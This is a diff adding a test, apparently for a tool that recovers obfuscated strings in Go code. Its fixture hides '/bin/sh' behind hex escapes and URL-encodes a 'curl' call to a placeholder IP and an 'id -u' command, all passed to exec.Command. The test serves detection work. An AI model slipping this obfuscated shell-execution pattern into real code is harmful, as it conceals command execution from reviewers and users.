@@ -413,3 +413,26 @@ test('decoded binary junk is not reported by recoverAllInFile', () => {
   const recovered = recoverAllInFile(p.files[0]!, p.scope).filter((r) => r.how.length > 0);
   assert.deepEqual(recovered.map((r) => [r.value, r.how]), [['http://a.test', ['base64']]]);
 });
+
+test('strconv.Unquote of a quoted literal in a raw string, url.PathUnescape and QueryUnescape', () => {
+  const p = body(
+    '"net/url"\n"os/exec"\n"strconv"',
+    [
+      'const q = `"\\x2f\\x62\\x69\\x6e\\x2fsh"`',
+      'func f() {',
+      '\tc, _ := strconv.Unquote(q)',
+      '\tu, _ := url.PathUnescape("%63url%20http://203.0.113.6/a+b")',
+      '\tv, _ := url.QueryUnescape("id+-u")',
+      '\tbad, _ := url.PathUnescape("%zz")',
+      '\texec.Command(c, u, v, bad).Run()',
+      '}',
+    ].join('\n'),
+  );
+  assert.deepEqual(values(argOf(p, 'exec.Command', 0)), ['/bin/sh']);
+  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('unquote'));
+  assert.deepEqual(values(argOf(p, 'exec.Command', 1)), ['curl http://203.0.113.6/a+b']);
+  assert.ok(argOf(p, 'exec.Command', 1)[0]!.how.includes('unescape'));
+  assert.deepEqual(values(argOf(p, 'exec.Command', 2)), ['id -u']);
+  // A malformed escape is an error in Go: nothing is recovered.
+  assert.deepEqual(values(argOf(p, 'exec.Command', 3)), []);
+});
